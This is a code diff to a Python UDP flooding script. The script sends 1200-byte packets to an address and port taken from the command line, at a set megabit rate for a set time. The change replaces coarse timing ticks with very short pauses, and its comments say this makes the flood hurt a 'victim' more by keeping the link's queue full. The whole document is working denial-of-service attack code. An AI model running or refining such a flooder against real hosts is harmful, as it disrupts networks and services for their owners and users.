@@ -8,26 +8,28 @@ import sys
 import time
 
 PAYLOAD = b"x" * 1200
-TICK_S = 0.005
+# Short pauses: with long ones the link's queue drains in between, and the flood hurts less than its rate says.
+PAUSE_S = 0.0002
 
 
 def main():
     address, port, mbit, seconds = sys.argv[1], int(sys.argv[2]), float(sys.argv[3]), float(sys.argv[4])
     out = socket.socket(socket.AF_INET6 if ":" in address else socket.AF_INET, socket.SOCK_DGRAM)
     out.connect((address, port))
-    per_tick = max(1, round(mbit * 1e6 / 8 / (len(PAYLOAD) + 28) * TICK_S))
+    per_second = mbit * 1e6 / 8 / (len(PAYLOAD) + 28)
     start = time.monotonic()
-    sent = 0
-    tick = 0
-    while time.monotonic() - start < seconds:
-        for _ in range(per_tick):
+    tried = sent = 0
+    while (now := time.monotonic() - start) < seconds:
+        due = int(now * per_second)
+        tried = max(tried, due - 200)  # after a stall do not catch up in one burst
+        while tried < due:
+            tried += 1
             try:
                 out.send(PAYLOAD)
                 sent += 1
             except OSError:  # refused by the victim's kernel, or no buffer: an attacker goes on
                 pass
-        tick += 1
-        time.sleep(max(0.0, start + tick * TICK_S - time.monotonic()))
+        time.sleep(PAUSE_S)
     print(sent)
 
 
